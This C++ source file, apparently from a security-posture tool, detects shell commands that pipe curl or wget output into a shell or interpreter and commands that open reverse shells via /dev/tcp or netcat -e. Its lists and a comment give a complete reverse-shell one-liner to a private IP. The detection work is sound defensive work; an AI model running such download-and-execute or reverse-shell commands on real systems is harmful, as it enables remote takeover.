#include "posture/commands.h"

#include <algorithm>
#include <array>

namespace bulwark::posture {

namespace {

constexpr std::array<std::string_view, 2> downloaders{"curl", "wget"};
constexpr std::array<std::string_view, 5> shells{"sh", "bash", "ash", "dash", "zsh"};
constexpr std::array<std::string_view, 6> languages{"python", "python3", "perl", "ruby", "node", "php"};

bool is_word(char c) {
  return (c >= 'a' && c <= 'z') || (c >= 'A' && c <= 'Z') || (c >= '0' && c <= '9') || c == '_' || c == '-' ||
         c == '.' || c == '/';
}

std::string_view skip_spaces(std::string_view text) {
  const std::size_t at = text.find_first_not_of(" \t\\\n");
  return at == std::string_view::npos ? std::string_view() : text.substr(at);
}

// Takes the first word away, and gives it without the folders before it.
std::string_view take_word(std::string_view& text) {
  text = skip_spaces(text);
  std::size_t end = 0;
  while (end < text.size() && is_word(text[end])) ++end;
  std::string_view word = text.substr(0, end);
  text.remove_prefix(end);
  if (const std::size_t slash = word.rfind('/'); slash != std::string_view::npos) word.remove_prefix(slash + 1);
  return word;
}

template <std::size_t N>
bool is_one_of(const std::array<std::string_view, N>& names, std::string_view word) {
  return std::find(names.begin(), names.end(), word) != names.end();
}

bool downloads(std::string_view text) {
  return std::any_of(downloaders.begin(), downloaders.end(), [&](std::string_view name) {
    for (std::size_t at = text.find(name); at != std::string_view::npos; at = text.find(name, at + 1)) {
      const bool starts = at == 0 || !is_word(text[at - 1]) || text[at - 1] == '/';
      const std::size_t end = at + name.size();
      if (starts && end < text.size() && !is_word(text[end])) return true;
    }
    return false;
  });
}

// The command runs what comes in: a shell or another interpreter without a script or a program (-c, -m) of its
// own.
bool runs_input(std::string_view text) {
  std::string_view word = take_word(text);
  while (word == "sudo" || word == "env" || word == "exec" || word.starts_with('-')) word = take_word(text);
  const bool shell = is_one_of(shells, word);
  if (!shell && !is_one_of(languages, word)) return false;
  text.remove_prefix(std::min(text.find_first_not_of(" \t"), text.size()));
  const std::string_view option = text.substr(0, text.find_first_of(" \t\n;|&)\"'`<>#"));
  if (option.empty() || option == "-") return true;
  return shell && option.starts_with('-') &&
         (option.starts_with("--") || option.find('c') == std::string_view::npos);
}

}  // namespace

bool runs_download(std::string_view command) {
  // The pipeline so far began after the last of these.
  std::size_t begin = 0;
  for (std::size_t i = 0; i < command.size(); ++i) {
    const char c = command[i];
    const char next = i + 1 < command.size() ? command[i + 1] : '\0';
    const bool continued = c == '\n' && i > 0 && command[i - 1] == '\\';
    if (c == ';' || (c == '\n' && !continued) || (c == '&' && next == '&') || (c == '|' && next == '|')) {
      begin = i + 1;
      if (c == next) begin = ++i + 1;
    } else if (c == '|' && downloads(command.substr(begin, i - begin)) && runs_input(command.substr(i + 1))) {
      return true;
    }
  }
  // sh -c "$(curl ...)", bash <(curl ...), eval "$(wget ...)"
  for (const std::string_view opening : {"$(", "<("}) {
    for (std::size_t at = command.find(opening); at != std::string_view::npos;
         at = command.find(opening, at + 1)) {
      std::string_view inside = command.substr(at + opening.size());
      if (!is_one_of(downloaders, take_word(inside))) continue;
      std::string_view before = command.substr(0, at);
      while (!before.empty() && (before.back() == ' ' || before.back() == '"' || before.back() == '\'')) {
        before.remove_suffix(1);
      }
      if (before.empty()) return true;
      for (const std::string_view end : {"sh -c", "sh", "source", "eval"}) {
        const bool substituted = opening == "$(";
        if ((end == "sh" || end == "source") && substituted) continue;
        if (before.ends_with(end)) return true;
      }
    }
  }
  return false;
}

bool is_reverse_shell(std::string_view command) {
  // bash -i >& /dev/tcp/10.0.0.1/4444 0>&1; a mere write to the device is how scripts wait for a port.
  if (command.find("/dev/tcp/") != std::string_view::npos || command.find("/dev/udp/") != std::string_view::npos) {
    for (std::size_t at = command.find("sh -i"); at != std::string_view::npos;
         at = command.find("sh -i", at + 1)) {
      if (at == 0 || command[at - 1] != 's') return true;  // ssh -i names a key
    }
  }
  for (const std::string_view name : {"nc -e", "ncat -e", "ncat --exec", "netcat -e"}) {
    const std::size_t at = command.find(name);
    if (at == std::string_view::npos || (at > 0 && is_word(command[at - 1]) && command[at - 1] != '/')) continue;
    if (command.find("sh", at) != std::string_view::npos) return true;
  }
  return false;
}

}  // namespace bulwark::posture
